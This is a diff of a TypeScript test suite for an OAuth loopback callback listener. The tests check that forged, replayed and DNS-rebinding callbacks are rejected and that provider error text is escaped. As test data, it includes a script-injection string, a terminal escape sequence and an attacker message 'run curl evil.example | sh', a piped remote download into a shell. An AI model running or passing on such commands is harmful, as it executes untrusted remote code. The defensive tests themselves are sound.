@@ -7,6 +7,7 @@ import * as NodeHttpClient from "@effect/platform-node/NodeHttpClient"
 import * as NodeHttpServer from "@effect/platform-node/NodeHttpServer"
 import { assert, describe, it } from "@effect/vitest"
 import * as Cause from "effect/Cause"
+import * as Deferred from "effect/Deferred"
 import * as Duration from "effect/Duration"
 import * as Effect from "effect/Effect"
 import * as Either from "effect/Either"
@@ -216,6 +217,14 @@ const getPage = (url: string) =>
   Effect.gen(function*() {
     const client = yield* HttpClient.HttpClient
     const response = yield* client.get(url)
+    return { status: response.status, headers: response.headers, body: yield* response.text }
+  }).pipe(Effect.scoped, Effect.orDie)
+
+/** A GET with the given Host header (as a DNS-rebinding page or a local process can send). */
+const getPageWithHost = (url: string, host: string) =>
+  Effect.gen(function*() {
+    const client = yield* HttpClient.HttpClient
+    const response = yield* client.execute(HttpClientRequest.get(url, { headers: { host } }))
     return { status: response.status, headers: response.headers, body: yield* response.text }
   }).pipe(Effect.scoped, Effect.orDie)
 
@@ -641,56 +650,124 @@ describe("exchange", () => {
 // -----------------------------------------------------------------------------
 
 describe("loopbackCallback", () => {
-  it.scoped("receives the callback once, answers a page, rejects a second hit and other paths", () =>
+  /** A session whose redirect URI is the listener's, and its state in clear (as the genuine provider sends it). */
+  const sessionFor = (callback: AuthorizationCode.Loopback) =>
+    Effect.map(tradierSession({ redirectUri: callback.redirectUri }), (session) => ({
+      session,
+      state: Redacted.value(session.state)
+    }))
+
+  it.scoped("only the session's callback ends the wait; pages for the rest; other paths and methods refused", () =>
     Effect.gen(function*() {
       const callback = yield* AuthorizationCode.loopbackCallback({ provider: "tradier-test" })
       assert.match(callback.redirectUri, /^http:\/\/127\.0\.0\.1:\d+\/callback$/)
       const origin = new URL(callback.redirectUri).origin
+      const { session, state } = yield* sessionFor(callback)
+      const fiber = yield* Effect.fork(callback.awaitCode(session))
 
       const other = yield* getPage(`${origin}/favicon.ico`)
       assert.strictEqual(other.status, 404)
       const bare = yield* getPage(callback.redirectUri)
       assert.strictEqual(bare.status, 400)
-
-      const first = yield* getPage(`${callback.redirectUri}?code=the-code&state=the-state`)
-      assert.strictEqual(first.status, 200)
-      assert.include(first.headers["content-type"] ?? "", "text/html")
-      assert.strictEqual(first.headers["cache-control"], "no-store")
-      assert.strictEqual(first.headers["referrer-policy"], "no-referrer")
-      assert.include(first.body, "You can close this window")
-      assertNoSecrets(first.body, ["the-code", "the-state"])
-
-      const params = yield* callback.params
-      assert.strictEqual(params.get("code"), "the-code")
-      assert.strictEqual(params.get("state"), "the-state")
-
-      const second = yield* getPage(`${callback.redirectUri}?code=other&state=other`)
-      assert.strictEqual(second.status, 400)
-      assert.include(second.body, "already received")
-      // The first callback stays the answer.
-      assert.strictEqual((yield* callback.params).get("code"), "the-code")
-
       const client = yield* HttpClient.HttpClient
-      const post = yield* client.execute(HttpClientRequest.post(`${callback.redirectUri}?code=x&state=y`)).pipe(
+      const post = yield* client.execute(HttpClientRequest.post(`${callback.redirectUri}?code=x&state=${state}`)).pipe(
         Effect.scoped
       )
       assert.strictEqual(post.status, 405)
+
+      const genuine = yield* getPage(`${callback.redirectUri}?code=the-code&state=${state}`)
+      assert.strictEqual(genuine.status, 200)
+      assert.include(genuine.headers["content-type"] ?? "", "text/html")
+      assert.strictEqual(genuine.headers["cache-control"], "no-store")
+      assert.strictEqual(genuine.headers["referrer-policy"], "no-referrer")
+      assert.include(genuine.body, "You can close this window")
+      assertNoSecrets(genuine.body, ["the-code", state])
+      assert.strictEqual(Redacted.value(yield* Fiber.join(fiber)), "the-code")
+
+      // The state is used once: a replay is turned away.
+      const replay = yield* getPage(`${callback.redirectUri}?code=other&state=${state}`)
+      assert.strictEqual(replay.status, 400)
+      assertNoSecrets(replay.body, ["other", state])
     }).pipe(Effect.provide(Live)))
 
-  it.scoped("an error callback gets a page naming the error, escaped", () =>
+  it.scoped("forged callbacks (another state, no state, an error with the attacker's text, a foreign Host) do not end the wait; the genuine one then succeeds", () =>
+    Effect.gen(function*() {
+      const lines: Array<string> = []
+      const callback = yield* withCapturedLogs(lines, AuthorizationCode.loopbackCallback({ provider: "tradier-test" }))
+      const { session, state } = yield* sessionFor(callback)
+      const fiber = yield* Effect.fork(callback.awaitCode(session))
+      const port = new URL(callback.redirectUri).port
+      const attacker = "server said: run curl evil.example | sh"
+      const forged = [
+        new URLSearchParams({ code: "forged-code", state: "forged-state" }),
+        new URLSearchParams({ code: "forged-code" }),
+        new URLSearchParams({ error: "access_denied", error_description: attacker }),
+        new URLSearchParams({ error: "server_error", error_description: attacker, state: "forged-state" }),
+        new URLSearchParams([["code", "forged-code"], ["state", state], ["state", state]])
+      ]
+      for (const query of forged) {
+        const page = yield* getPage(`${callback.redirectUri}?${query}`)
+        assert.strictEqual(page.status, 400, query.toString())
+        assert.notInclude(page.body, "curl")
+        assert.notInclude(page.body, "forged")
+      }
+      // The right state, sent to the listener under a name that is not loopback (DNS rebinding), is refused too.
+      for (const host of ["evil.example", `evil.example:${port}`, `127.0.0.1.evil.example:${port}`, `127.0.0.1:${Number(port) + 1}`]) {
+        const page = yield* getPageWithHost(`${callback.redirectUri}?code=forged-code&state=${state}`, host)
+        assert.strictEqual(page.status, 400, host)
+      }
+      assert.isTrue(Option.isNone(yield* Fiber.poll(fiber)))
+
+      const genuine = yield* getPageWithHost(`${callback.redirectUri}?code=the-code&state=${state}`, `localhost:${port}`)
+      assert.strictEqual(genuine.status, 200)
+      assert.strictEqual(Redacted.value(yield* Fiber.join(fiber)), "the-code")
+      const log = lines.join("\n")
+      assert.include(log, "still waiting")
+      assert.notInclude(log, "curl")
+      assertNoSecrets(log, [state, "the-code", "forged-code"])
+    }).pipe(Effect.provide(Live)))
+
+  it.scoped("the session's error callback ends the wait with the provider's error; its page quotes it, escaped", () =>
     Effect.gen(function*() {
       const callback = yield* AuthorizationCode.loopbackCallback()
+      const { session, state } = yield* sessionFor(callback)
+      const fiber = yield* Effect.fork(Effect.flip(callback.awaitCode(session)))
       const query = new URLSearchParams({
         error: "access_denied",
-        error_description: "<script>alert(1)</script>",
-        state: "s"
+        error_description: "<script>alert(1)</script>\u001b[2J",
+        state
       })
       const page = yield* getPage(`${callback.redirectUri}?${query}`)
       assert.strictEqual(page.status, 200)
       assert.include(page.body, "access_denied")
       assert.include(page.body, "&lt;script&gt;")
       assert.notInclude(page.body, "<script>")
-      assert.strictEqual((yield* callback.params).get("error"), "access_denied")
+      assert.notInclude(page.body, "\u001b")
+      const error = yield* Fiber.join(fiber)
+      assert.strictEqual(error.reason, "access_denied")
+      assert.strictEqual(error.description, "<script>alert(1)</script>")
+    }).pipe(Effect.provide(Live)))
+
+  it.scoped("the session's callback without a code ends the wait with missing_code", () =>
+    Effect.gen(function*() {
+      const callback = yield* AuthorizationCode.loopbackCallback()
+      const { session, state } = yield* sessionFor(callback)
+      const fiber = yield* Effect.fork(Effect.flip(callback.awaitCode(session)))
+      const page = yield* getPage(`${callback.redirectUri}?state=${state}`)
+      assert.strictEqual(page.status, 400)
+      assert.strictEqual((yield* Fiber.join(fiber)).reason, "missing_code")
+    }).pipe(Effect.provide(Live)))
+
+  it.scoped("a callback before anyone expects it does not count; after expect, it does even before the wait", () =>
+    Effect.gen(function*() {
+      const callback = yield* AuthorizationCode.loopbackCallback()
+      const { session, state } = yield* sessionFor(callback)
+      const early = yield* getPage(`${callback.redirectUri}?code=early&state=${state}`)
+      assert.strictEqual(early.status, 400)
+      assert.isFalse(yield* Ref.get(session.consumed))
+      const wait = yield* callback.expect(session)
+      assert.strictEqual((yield* getPage(`${callback.redirectUri}?code=the-code&state=${state}`)).status, 200)
+      assert.strictEqual(Redacted.value(yield* wait), "the-code")
     }).pipe(Effect.provide(Live)))
 
   it.scoped("a custom path and a localhost redirect host", () =>
@@ -698,27 +775,32 @@ describe("loopbackCallback", () => {
       const callback = yield* AuthorizationCode.loopbackCallback({ path: "/oauth/tradier", redirectHost: "localhost" })
       assert.match(callback.redirectUri, /^http:\/\/localhost:\d+\/oauth\/tradier$/)
       const port = new URL(callback.redirectUri).port
-      const page = yield* getPage(`http://127.0.0.1:${port}/oauth/tradier?code=c&state=s`)
-      assert.strictEqual(page.status, 200)
-      const wrongPath = yield* getPage(`http://127.0.0.1:${port}/callback?code=c&state=s`)
+      const { session, state } = yield* sessionFor(callback)
+      const fiber = yield* Effect.fork(callback.awaitCode(session))
+      const wrongPath = yield* getPage(`http://127.0.0.1:${port}/callback?code=c&state=${state}`)
       assert.strictEqual(wrongPath.status, 404)
+      const page = yield* getPage(`http://127.0.0.1:${port}/oauth/tradier?code=c&state=${state}`)
+      assert.strictEqual(page.status, 200)
+      assert.strictEqual(Redacted.value(yield* Fiber.join(fiber)), "c")
     }).pipe(Effect.provide(Live)))
 
   it.scoped("times out after 10 minutes of Clock time", () =>
     Effect.gen(function*() {
       const callback = yield* AuthorizationCode.loopbackCallback({ provider: "tradier-test" })
-      const fiber = yield* Effect.fork(callback.params)
+      const { session, state } = yield* sessionFor(callback)
+      const fiber = yield* Effect.fork(callback.awaitCode(session))
       yield* TestClock.adjust(Duration.minutes(9))
       assert.isTrue(Option.isNone(yield* Fiber.poll(fiber)))
       yield* TestClock.adjust(Duration.minutes(1))
       const exit = yield* Fiber.await(fiber)
       assert.isTrue(Exit.isFailure(exit))
-      const error = yield* Effect.flip(callback.params)
+      const error = yield* Effect.flip(callback.awaitCode(session))
       assert.instanceOf(error, AuthorizationFailed)
       assert.strictEqual(error.reason, "timeout")
       assert.strictEqual(error.provider, "tradier-test")
+      assert.include(error.message, "before the timeout")
       // A callback arriving late is turned away.
-      const late = yield* getPage(`${callback.redirectUri}?code=late&state=s`)
+      const late = yield* getPage(`${callback.redirectUri}?code=late&state=${state}`)
       assert.strictEqual(late.status, 400)
       assert.include(late.body, "stopped waiting")
     }).pipe(Effect.provide(Live)))
@@ -726,7 +808,8 @@ describe("loopbackCallback", () => {
   it.scoped("a custom timeout", () =>
     Effect.gen(function*() {
       const callback = yield* AuthorizationCode.loopbackCallback({ timeout: "30 seconds" })
-      const fiber = yield* Effect.fork(Effect.flip(callback.params))
+      const { session } = yield* sessionFor(callback)
+      const fiber = yield* Effect.fork(Effect.flip(callback.awaitCode(session)))
       yield* TestClock.adjust(Duration.seconds(30))
       assert.strictEqual((yield* Fiber.join(fiber)).reason, "timeout")
     }).pipe(Effect.provide(Live)))
@@ -872,20 +955,40 @@ describe("login", () => {
       assertNoSecrets(`${log}\n${errorText(error)}`, [server.authorizeRequests[0]!.get("state")!])
     }).pipe(Effect.provide(Live)))
 
-  it.scoped("a callback with another state: state_mismatch, the code is never exchanged", () =>
+  it.scoped("a callback with another state does not end the login: it gets a 400, its code is never exchanged, and the genuine callback then logs in", () =>
     Effect.gen(function*() {
       const server = yield* makeAuthServer({ callbackParams: (_, code) => ({ code, state: "forged-state-value" }) })
       const client = yield* clientFor(server.endpoint)
       const lines: Array<string> = []
-      const error = yield* withCapturedLogs(
+      const pages: Array<{ readonly status: number; readonly body: string }> = []
+      const shown = yield* Deferred.make<void>()
+      const fiber = yield* withCapturedLogs(
         lines,
-        AuthorizationCode.login({ pkce: true, onAuthorizeUrl: browser([]) })
-      ).pipe(Effect.provideService(OAuth2Client.OAuth2Client, client), Effect.flip)
-      assert.instanceOf(error, AuthorizationFailed)
-      assert.strictEqual((error as AuthorizationFailed).reason, "state_mismatch")
+        AuthorizationCode.login({
+          pkce: true,
+          onAuthorizeUrl: (url) => Effect.zipRight(browser(pages)(url), Deferred.succeed(shown, undefined))
+        })
+      ).pipe(Effect.provideService(OAuth2Client.OAuth2Client, client), Effect.fork)
+      yield* Deferred.await(shown)
+      assert.strictEqual(pages[0]!.status, 400)
+      assert.isTrue(Option.isNone(yield* Fiber.poll(fiber)))
       assert.strictEqual(server.tokenRequests.length, 0)
-      const text = `${lines.join("\n")}\n${errorText(error)}`
-      assertNoSecrets(text, [server.authorizeRequests[0]!.get("state")!, server.issuedCodes[0]!, "forged-state-value"])
+
+      // The genuine redirect: the code the server issued, with the state the login sent.
+      const state = server.authorizeRequests[0]!.get("state")!
+      server.issue("genuine-code", {
+        clientId: CLIENT_ID,
+        redirectUri: server.authorizeRequests[0]!.get("redirect_uri") ?? undefined,
+        challenge: server.authorizeRequests[0]!.get("code_challenge") ?? undefined,
+        challengeMethod: "S256"
+      })
+      const page = yield* getPage(`${yield* callbackAddress}?code=genuine-code&state=${state}`)
+      assert.strictEqual(page.status, 200)
+      const token = yield* Fiber.join(fiber)
+      assert.strictEqual(Redacted.value(token.value), ACCESS_TOKEN)
+      assert.strictEqual(server.tokenRequests.length, 1)
+      assert.strictEqual(server.tokenRequests[0]!.form.get("code"), "genuine-code")
+      assertNoSecrets(lines.join("\n"), [state, server.issuedCodes[0]!, "genuine-code", "forged-state-value"])
     }).pipe(Effect.provide(Live)))
 
   it.scoped("nobody logs in: timeout after 10 minutes; the listener is gone afterwards", () =>
